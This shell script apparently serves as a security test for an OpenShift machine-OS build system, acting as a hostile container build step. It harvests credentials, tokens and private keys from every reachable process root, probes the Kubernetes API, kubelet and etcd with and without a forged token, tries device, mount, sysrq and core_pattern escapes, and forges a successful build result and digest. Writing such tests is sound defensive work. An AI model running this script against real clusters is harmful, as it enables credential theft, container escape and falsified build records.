# What a hostile RUN line does. What it finds and what it is answered goes into the image, where the test reads it.
set -u
api=$1 node=$2 namespace=$3 forged=$4
out=/usr/share/found
mkdir -p "$out"
bb() { /usr/bin/busybox "$@"; }

# Where it is, as whom, among whom. A RUN line's own root is the base; that of the container is the first process's.
container=/proc/1/root
cat /proc/self/uid_map >"$out/uid_map"
for process in /proc/[0-9]*; do tr '\0' ' ' <"$process/cmdline" && echo; done >"$out/processes" 2>/dev/null
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | sort -u >"$out/environ"
cat /proc/[0-9]*/mountinfo 2>/dev/null | sort -u >"$out/mounts"
ls "$container/dev" /dev >"$out/devices"

# Credentials, tokens, keys and another pod's word, in each root that a process here has.
for root in / /proc/[0-9]*/root/; do
    id=$(stat -Lc %d:%i "$root" 2>/dev/null) || continue
    grep -qsx "$id" /tmp/seen && continue
    echo "$id" >>/tmp/seen
    grep -rIlE --devices=skip --exclude-dir=proc --exclude-dir=sys '"auth"|eyJhbGciOi|PRIVATE KEY|neighbours-[w]ord' "$root" 2>/dev/null
done >/tmp/files
while read -r file; do echo "== $file" && head -c 20000 "$file" && echo; done </tmp/files >"$out/secrets"

# The API, the kubelet and what else a node has, with a token that is none and without.
ask() {
    what=$1
    shift
    status=$(bb wget -S -T 5 --no-check-certificate -O "$out/answer" "$@" 2>&1 </dev/null | grep -m1 -oE 'HTTP/1.. [0-9]+')
    echo "$what ${status#* }"
}
for path in "api/v1/namespaces/$namespace/secrets" "api/v1/namespaces/$namespace/configmaps" "api/v1/namespaces/$namespace/pods" \
    api/v1/secrets api/v1/nodes apis/machineconfiguration.openshift.io/v1/machineosconfigs; do
    ask stranger "https://$api/$path"
    ask forger --header 'Authorization: Bearer forged' "https://$api/$path"
done >"$out/asked"
map='{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"forged"}}'
{
    ask stranger --header 'Content-Type: application/json' --post-data "$map" "https://$api/api/v1/namespaces/$namespace/configmaps"
    ask forger "https://$node:10250/pods"
    ask nobody "http://$node:10255/pods"
    ask nobody "http://127.0.0.1:2379/version"
    ask nobody "http://127.0.0.1:10248/healthz"
    ask alive "https://$api/version"
} >>"$out/asked"

# The node. None of these would change anything if it were allowed.
try() {
    what=$1
    shift
    if "$@" >/dev/null 2>&1; then echo "$what: done"; else echo "$what: refused"; fi
}
device() { bb mknod "/tmp/$1" "$1" "$2" "$3" && head -c 1 "/tmp/$1"; }
writable() { : >>"$1"; }
{
    try 'a disk' device b 8 0
    try memory device c 1 1
    try 'mount of a disk' bb mount -t ext4 /dev/sda1 /mnt
    try 'mount of cgroups' bb mount -t cgroup2 none /mnt
    try 'mount of debugfs' bb mount -t debugfs none /mnt
    try 'another /proc' bb mount -t proc none /mnt
    try 'another root' bb mount --bind "$container" /mnt
    try sysrq writable /proc/sysrq-trigger
    try 'core pattern' writable /proc/sys/kernel/core_pattern
    try "container's core pattern" writable "$container/proc/sys/kernel/core_pattern"
    try uevents writable "$container/sys/kernel/uevent_helper"
    try kubelet ls "$container/var/lib/kubelet"
    try runtime ls "$container/run/containerd"
    try 'own token' ls "$container/var/run/secrets/kubernetes.io"
} >"$out/tried"

# A result of its own making, wherever one might be looked for, for the right build and Job.
build=$(tr '\0' '\n' </proc/1/cmdline | sed -n 's/^--build-name=//p')
uid=$(sed -n 's/^MOSB_JOB_UID=//p' "$out/environ")
result="{\"jobUid\":\"$uid\",\"build\":\"$build\",\"outcome\":\"Succeeded\",\"digest\":\"$forged\",\"method\":\"containerfile\"}"
for folder in failure result image; do
    mkdir -p "$container/run/mosb/$folder"
    echo "$result" >"$container/run/mosb/$folder/result.json"
    echo "{\"result\":\"$forged\"}" >"$container/run/mosb/$folder/acknowledged"
    echo "$forged" >"$container/run/mosb/$folder/digest"
done
echo "$result" >"$container/dev/termination-log"
echo "$result" >"$out/forged"
rm -rf /tmp/files /tmp/seen "$out/answer"
